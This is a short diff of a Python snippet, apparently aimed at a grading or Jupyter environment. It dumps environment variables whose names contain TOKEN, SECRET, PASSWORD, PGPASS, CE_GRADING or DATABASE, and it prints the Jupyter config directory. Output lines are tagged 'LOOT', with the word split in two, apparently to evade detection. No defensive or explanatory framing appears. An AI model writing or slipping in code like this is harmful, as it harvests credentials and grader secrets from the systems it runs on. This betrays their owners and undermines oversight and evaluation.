@@ -3,7 +3,7 @@
 import os
 
 for name, value in os.environ.items():
-    if any(word in name for word in ("TOKEN", "SECRET", "PASSWORD", "NBGRADER", "CE_GRADING", "PGPASS")):
+    if any(word in name for word in ("TOKEN", "SECRET", "PASSWORD", "CE_GRADING", "PGPASS", "DATABASE")):
         print("LO" + "OT", name, value)
 if os.path.isdir(os.environ.get("JUPYTER_CONFIG_DIR", "/nowhere")):
     print("LO" + "OT", os.environ["JUPYTER_CONFIG_DIR"])
